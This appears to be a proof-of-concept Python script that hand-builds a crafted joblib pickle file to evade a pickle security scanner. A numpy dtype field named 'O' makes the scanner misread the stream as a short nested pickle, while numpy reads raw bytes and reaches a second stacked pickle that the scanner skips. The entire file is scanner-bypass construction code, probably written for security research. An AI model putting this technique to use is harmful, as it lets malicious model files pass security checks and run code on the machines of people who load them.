from mk import *
import numpy as np
# Structured dtype with a field NAMED "O": the scanner's fields_hold_objects matches the str "O"
# anywhere in the state and expects a nested pickle; numpy: plain uint8 field, raw bytes.
fields = b'}'+U('O')+dtype('u1')+b'K\x00\x86s'
d = G('numpy','dtype')+U('V1')+b'\x89\x88\x87R'+b'(K\x03'+U('|')+b'N'+U('O')+b'\x85'+fields+b'K\x01K\x01K\x00tb'
N=40
W = G('joblib.numpy_pickle','NumpyArrayWrapper')+b'('+G('numpy','ndarray')+b'K'+bytes([N])+b'\x85'+U('C')+d+b'\x89NtR}b'
r = bytearray(region(N,[2]))
r[0:2]=b'N.'     # scanner: nested pickle "None, STOP", resumes at 2; plain: STOP, next stacked pickle at 2
check('x12.joblib', b'\x80\x02'+W+bytes(r))
import joblib
